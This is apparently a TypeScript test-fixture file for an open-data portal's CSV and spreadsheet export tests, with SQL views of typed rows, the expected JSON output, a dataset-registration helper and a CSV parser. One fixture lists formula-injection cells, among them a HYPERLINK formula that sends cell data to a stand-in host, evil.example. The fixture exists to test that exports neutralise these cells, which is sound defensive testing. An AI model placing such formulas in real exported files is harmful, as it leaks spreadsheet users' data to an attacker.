import type { Pool } from 'pg';

// Test fixtures of the DataStore and download tests: views with known rows, registered in the
// catalog as datasets with resources, as the catalog sync would register them.

/** One row per kind of value, with the values a CSV/spreadsheet export must treat with care. */
export const TYPED_VIEW_SQL = `
create view open.ds_typed as
select * from (values
  (1, 'Lichtenhagen', 12.50::numeric, date '2024-01-31', true, timestamptz '2024-01-31 10:00:00+01', '{"a": 1}'::jsonb, array['x', 'y'], 'Nord'),
  (2, 'Gartenstadt/Stadtweide', -3.25, date '2024-02-29', false, timestamptz '2024-02-29 23:30:00+00', '[1, 2]'::jsonb, array['z'], 'Süd'),
  (3, 'Südstadt', null, null, null, null, null, null, 'Süd'),
  (4, 'Evershagen, "Dorf"', 7, date '2023-12-01', true, timestamptz '2023-12-01 00:00:00+00', '{"b": "x"}'::jsonb, array[]::text[], 'Nord'),
  (5, '=1+1 Formel', 0, date '2024-03-01', false, timestamptz '2024-03-01 12:00:00+00', null, null, 'Mitte')
) v(id, name, amount, day, flag, seen, doc, tags, area)`;

/** The rows of open.ds_typed as JSON answers carry them (timestamps in UTC). */
export const TYPED_ROWS = [
  {
    id: 1,
    name: 'Lichtenhagen',
    amount: 12.5,
    day: '2024-01-31',
    flag: true,
    seen: '2024-01-31T09:00:00Z',
    doc: { a: 1 },
    tags: ['x', 'y'],
    area: 'Nord',
  },
  {
    id: 2,
    name: 'Gartenstadt/Stadtweide',
    amount: -3.25,
    day: '2024-02-29',
    flag: false,
    seen: '2024-02-29T23:30:00Z',
    doc: [1, 2],
    tags: ['z'],
    area: 'Süd',
  },
  { id: 3, name: 'Südstadt', amount: null, day: null, flag: null, seen: null, doc: null, tags: null, area: 'Süd' },
  {
    id: 4,
    name: 'Evershagen, "Dorf"',
    amount: 7,
    day: '2023-12-01',
    flag: true,
    seen: '2023-12-01T00:00:00Z',
    doc: { b: 'x' },
    tags: [],
    area: 'Nord',
  },
  {
    id: 5,
    name: '=1+1 Formel',
    amount: 0,
    day: '2024-03-01',
    flag: false,
    seen: '2024-03-01T12:00:00Z',
    doc: null,
    tags: null,
    area: 'Mitte',
  },
];

/** Every character that starts a spreadsheet formula, at the start of a text cell, beside numbers. */
export const FORMULA_VIEW_SQL = `
create view open.ds_formula as
select * from (values
  (1, '=HYPERLINK("http://evil.example/?"&A1;"x")', -5),
  (2, '+41 381 12345', -0.5),
  (3, '-Minus', 3),
  (4, '@SUM(A1:A2)', 4),
  (5, E'\\tTab', 5),
  (6, E'\\rReturn', 6),
  (7, 'harmlos = 1', 7)
) v(id, text, num)`;

/** Registers a dataset with one resource backed by the view; returns the resource id. */
export async function registerResource(
  pool: Pool,
  input: { dataset: string; view: string; format?: string; private?: boolean; geo?: boolean; datastoreActive?: boolean },
): Promise<string> {
  const { rows } = await pool.query<{ id: string }>(
    `with d as (
       insert into catalog.dataset (name, title, private, geo, source_view) values ($1, $1, $2, $3, $4)
       on conflict (name) do update set private = excluded.private returning id)
     insert into catalog.resource (dataset_id, name, format, mimetype, position, view_name, datastore_active)
     select id, $1 || ' (' || $5 || ')', $5, null, (select count(*) from catalog.resource r where r.dataset_id = d.id), $4, $6 from d
     returning id`,
    [input.dataset, input.private ?? false, input.geo ?? false, input.view, input.format ?? 'CSV', input.datastoreActive ?? true],
  );
  return rows[0]?.id ?? '';
}

/** A minimal RFC 4180 reader (quotes, doubled quotes, CRLF or LF) for reading exports back. */
export function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) {
      row.push(field);
      field = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}
